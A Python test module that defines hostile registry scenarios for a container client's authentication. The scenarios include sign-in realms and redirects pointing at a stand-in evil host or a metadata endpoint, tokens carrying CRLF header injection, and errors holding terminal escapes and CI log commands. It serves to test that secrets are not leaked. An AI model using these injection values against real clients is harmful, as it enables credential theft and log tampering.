"""Challenges, tokens and TLS: who receives the user's secrets (R5, R15, R16, R20)."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable
from urllib.parse import quote

from tests.hostile.case import EITHER, GETS_IT, SUCCEEDS, Case, either
from tests.hostile.names import ACCESS_TOKEN, EVIL, METADATA, PASSWORD, REPOSITORY, SERVER, USER, token
from tests.hostile.site import Rule, Site, as_json, challenge, error, on, response, rule, site, unending, variant
from tests.hostile.wire import Response, Sent

V2 = f"https://{SERVER}/v2/"
TOKEN = "/oauth2/token"
REALMS = {
    "evil": f"https://{EVIL}/oauth2/token",
    "port": f"https://{SERVER}:8443/oauth2/token",
    "http": f"http://{SERVER}/oauth2/token",
    "metadata": f"http://{METADATA}/metadata/identity/oauth2/token",
    "metadata-https": f"https://{METADATA}/token",
    "loopback": "http://127.0.0.1:1/token",
    "user": f"https://{SERVER}@{EVIL}/token",
    "suffix": f"https://{SERVER}.{EVIL}/token",
    "file": "file:///etc/passwd",
    "newline": f"https://{SERVER}/oauth2/token%0d%0aX-Evil:%20y",
    "backslash": f"https://{EVIL}\\@{SERVER}/token",
    "empty": "",
}
WIDE = f"repository:{REPOSITORY}:pull,push,delete registry:catalog:*"


def once(realm: str, scope: str = f"repository:{REPOSITORY}:pull") -> Callable[[], Site]:
    """Return a maker of a registry that asks for a sign-in elsewhere, and accepts the right token all the same."""

    def play(made: Site, sent: Sent) -> Response | None:
        return None if "authorization" in sent.headers and made.tags[-1] == "asked" else _ask(made)

    def _ask(made: Site) -> Response:
        made.tags.append("asked")
        return challenge(realm, scope)

    return lambda: site(None, rule(f"GET {V2}", play))


def gives(value: object) -> Callable[[], Site]:
    """Return a maker of a registry whose token is *value*."""
    return on(TOKEN, as_json({"access_token": value, "token": value}))


@variant
def shows(made: Site, kind: str) -> None:
    """Make a registry with a certificate of this kind."""
    made.certificates[SERVER] = kind


JSON = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
RESPONSES: dict[str, tuple[str, Response]] = {
    "endless": ("a token without end", unending(JSON + b'\r\n{"access_token":"', b"A" * 65536)),
    "huge": ("a token of 8 MiB", as_json({"access_token": "A" * (8 << 20)})),
    "not-json": ("no JSON", response(200, b"<html>Sign in</html>")),
    "null": ("null", as_json(None)),
    "list": ("a list", as_json([ACCESS_TOKEN])),
    "deep": ("100,000 brackets", response(200, b"[" * 100_000)),
    "empty": ("nothing", response(200)),
    "error-ansi": ("an error that is a terminal command", error(401, "UNAUTHORIZED", "\x1b]0;owned\x07\x1b[2J\n##vso[task.complete]")),
    "error-huge": ("an error without end", unending(b"HTTP/1.1 403 No\r\n\r\n" + b'{"errors":[{"message":"', b"A" * 65536)),
    "error-html": ("a page of a captive portal", response(403, b"<html>" + b"x" * 5000)),
    "error-shape": ("errors that are an object", as_json({"errors": {"0": "x"}}, 401)),
    "error-types": ("an error of numbers", as_json({"errors": [{"code": 1, "message": ["\x1b"], "detail": {"a": 1}}]}, 400)),
    "redirect": ("a 307 elsewhere, with the password", response(307, Location=f"https://{EVIL}/oauth2/token")),
    "redirect-302": ("a 302 elsewhere, for the token", response(302, Location=f"https://{EVIL}/oauth2/token")),
    "redirect-http": ("a redirect to plain HTTP", response(308, Location=f"http://{SERVER}/oauth2/token")),
    "429": ("wait for 999,999 s", error(429, "TOOMANYREQUESTS", Retry_After="999999")),
    "503": ("503, with Retry-After: 0", response(503, Retry_After="0")),
    "silence": ("silence, without end", Response(b"", "hang")),
    "200-error": ("an error with status 200", error(200, "DENIED", "no")),
}  # fmt: skip
TOKENS: dict[str, tuple[str, object]] = {
    "crlf": ("a token with a line break", "abc\r\nX-Evil: yes"),
    "unicode": ("a token of other letters", "t\u00f6k\u4e2d"),
    "space": ("a token with spaces", "a b c"),
    "control": ("a token with an escape", "a\x1b[2Jb"),
    "number": ("a token that is a number", 12345),
    "object": ("a token that is an object", {"a": "b"}),
    "blank": ("an empty token", ""),
    "claims-deep": ("a token whose claims are deep", "a." + "W1tb" * 30000 + ".c"),
    "claims-types": ("a token whose claims are of odd types", token("odd", access={"a": 1}, exp="soon")),
    "claims-none": ("a token that grants nothing", token("none", access=[])),
    "claims-other": ("a token for another repository", token("other", access=[{"type": "repository", "name": "x", "actions": ["pull"]}])),
    "claims-exp": ("a token that ends at infinity", "e30." + "eyJleHAiOjFlNDAwfQ" + ".c"),
    "long": ("a token of 200 KiB, too long for a header", "A" * 200_000),
}  # fmt: skip
REFLECTED: dict[str, tuple[str, Callable[[Site, Sent], Response | None], str]] = {
    "password": (
        "an error that repeats the password",
        lambda made, sent: error(401, "UNAUTHORIZED", f"wrong password {PASSWORD}: {sent.body.decode()}"),
        TOKEN,
    ),
    "token": (
        "an error that repeats the token",
        lambda made, sent: error(403, "DENIED", f"not for {sent.headers.get('authorization')}"),
        "GET .*/manifests/",
    ),
    "token-header": (
        "a correlation id that repeats the token",
        lambda made, sent: error(404, "X", X_Ms_Correlation_Request_Id=sent.headers.get("authorization", "")),
        "GET .*/manifests/",
    ),
    "token-digest": (
        "a digest that repeats the token",
        lambda made, sent: response(200, b"{}", Docker_Content_Digest=sent.headers.get("authorization", "")),
        "GET .*/manifests/",
    ),
    "token-type": (
        "a media type that repeats the token",
        lambda made, sent: response(200, b"{}", Content_Type=sent.headers.get("authorization", "")),
        "GET .*/manifests/",
    ),
    "token-location": (
        "a redirect to a URL that repeats the token",
        lambda made, sent: response(307, Location=f"http://{EVIL}/{sent.headers.get('authorization', '')[7:]}"),
        "GET .*/blobs/",
    ),
}  # fmt: skip

SPELLED = (
    f"{PASSWORD} {quote(PASSWORD, safe='').replace('-', '%2D')} {b64encode(f'{USER}:{PASSWORD}'.encode()).decode()}"
)
LATER: dict[str, tuple[str, Response, str]] = {
    "error": ("a later error repeats the password", error(403, "DENIED", SPELLED), "GET .*/manifests/"),
    "error-code": ("a later error's code is the password", error(404, PASSWORD, PASSWORD), "GET .*/manifests/"),
    "error-json": ("a later error of the storage repeats the password", error(400, "X", "no", SPELLED), "GET .*/blobs/"),
    "id": ("a later correlation id is the password", error(404, "X", X_Ms_Correlation_Request_Id=PASSWORD), "GET .*/manifests/"),
    "digest": ("a later digest is the password", response(200, b"{}", Docker_Content_Digest=PASSWORD), "GET .*/manifests/"),
    "type": ("a later media type is the password", response(200, b"{}", Content_Type=f"application/{PASSWORD}"), "GET .*/manifests/"),
    "location": ("a later redirect to http has the password in its path", response(307, Location=f"http://{SERVER}/v2/{PASSWORD}/"), "GET .*/blobs/"),
    "loop": ("later redirects to paths with the password, without end", response(307, Location=f"https://{SERVER}/v2/samples/artifact/blobs/{PASSWORD}"), "GET .*/blobs/"),
    "status": ("a later reason phrase is the password", Response(f"HTTP/1.1 404 {PASSWORD}\r\nContent-Length: 0\r\n\r\n".encode()), "GET .*/manifests/"),
    "wire": ("a later status line is the password", Response(f"{PASSWORD}\r\n\r\n".encode(), "close"), "GET .*/manifests/"),
    "type-key": ("a later header line is the password", Response(f"HTTP/1.1 200 OK\r\n{PASSWORD}\r\n\r\n".encode(), "close"), "GET .*/manifests/"),
}  # fmt: skip


def reflected(name: str) -> Case:
    """Return a case in which the registry repeats what was sent to it."""
    does, play, match = REFLECTED[name]
    return Case(f"reflect-{name}", "R15", does, lambda: site(None, Rule(match, play)))


CASES = [
    *(Case(f"later-{name}", "R34", does, on(match, play)) for name, (does, play, match) in LATER.items()),
    *(Case(f"later-{command}", "R34", f"{command}, and an error repeats the password", on("/(oauth2|v2)/", error(403, PASSWORD, SPELLED)), command=command) for command in ("login", "list", "delete", "tag", "push")),
    *(Case(f"realm-{name}", "R5", f"the registry asks to sign in at {realm[:60] or 'nowhere'}", once(realm), either()) for name, realm in REALMS.items()),
    *(Case(f"token-{name}", "R5", f"the token response is: {does}", on(TOKEN, play)) for name, (does, play) in RESPONSES.items()),
    *(Case(f"token-{name}", "R5", f"it gives {does}", gives(value)) for name, (does, value) in TOKENS.items()),
    *(reflected(name) for name in REFLECTED),
    Case("realm-scope", "R5", "the challenge asks for every permission, on a pull", once(f"https://{SERVER}/oauth2/token", WIDE), GETS_IT),
    Case("realm-basic", "R5", "the challenge wants the password itself", on(V2, error(401, "UNAUTHORIZED", WWW_Authenticate='Basic realm="evil"'))),
    Case("realm-unknown", "R5", "a challenge of an unknown kind", on(V2, error(401, "UNAUTHORIZED", WWW_Authenticate='Evil x="y", Bearer realm="https://evil.example/"'))),
    Case("realm-broken", "R5", "a challenge that is cut", on(V2, error(401, "UNAUTHORIZED", WWW_Authenticate='Bearer realm="https://evil.example'))),
    Case("realm-none", "R5", "401 without a challenge", on(V2, error(401, "UNAUTHORIZED"))),
    Case("realm-long", "R5", "a challenge of 60,000 characters", on(V2, error(401, "UNAUTHORIZED", WWW_Authenticate="Bearer " + 'a="b",' * 10_000))),
    Case("401-always", "R17", "whatever token: 401", on(V2, challenge())),
    Case("401-insufficient", "R17", "401: the token has too few permissions", on(V2, error(401, "UNAUTHORIZED", WWW_Authenticate='Bearer error="insufficient_scope",scope="repository:x:*"'))),
    Case("403-denied", "R20", "403, and a hundred escapes", on(V2, error(403, "DENIED", "client with IP '\x1b[1m1.2.3.4' is not allowed access" + "\x1b" * 100))),
    Case("refresh-reflected", "R15", "an error that repeats the refresh token", on(TOKEN, lambda made, sent: error(401, "UNAUTHORIZED", sent.body.decode())), identity="refresh"),
    Case("refresh-realm", "R5", "a refresh token, and a realm elsewhere", once(REALMS["evil"]), either(), identity="refresh"),
    Case("refresh-redirect", "R7", "a refresh token, and a redirect elsewhere", on(TOKEN, RESPONSES["redirect"][1]), identity="refresh"),
    Case("anonymous-realm", "R5", "anonymous, and a realm elsewhere", once(REALMS["evil"]), EITHER, identity="anonymous"),
    Case("login-wrong", "R5", "login, with a wrong password", on(TOKEN, error(401, "UNAUTHORIZED", "no")), command="login"),
    Case("login-redirect", "R7", "login, and a redirect elsewhere", on("/(oauth2|v2)/", RESPONSES["redirect"][1]), command="login"),
    Case("login-token-crlf", "R5", "login, and a token with a line break", gives("abc\r\nX: y"), command="login"),
    Case("check-access-ansi", "R14", "permissions that are a terminal command", gives(token("x", access=[{"type": "repository", "name": REPOSITORY, "actions": ["\x1b[2J##vso[a]b", "pull"]}])), SUCCEEDS, command="check-access"),
    Case("check-access-opaque", "R20", "a token that says nothing", gives("opaque"), command="check-access"),
    *(Case(f"tls-{kind}", "R16", f"a certificate {does}", shows(kind)) for kind, does in {
        "other": "for another name", "wild": "for *.io", "expired": "that has run out", "unknown": "of an unknown authority",
    }.items()),
    Case("tls-none", "R16", "no TLS", shows("none")),
    Case("ok-refresh", "R20", "a refresh token, a good registry", site, GETS_IT, identity="refresh"),
    Case("ok-login", "R20", "login", site, SUCCEEDS, command="login", ours_only=True),
    Case("ok-check-access", "R20", "a good registry", site, SUCCEEDS, command="check-access"),
]  # fmt: skip
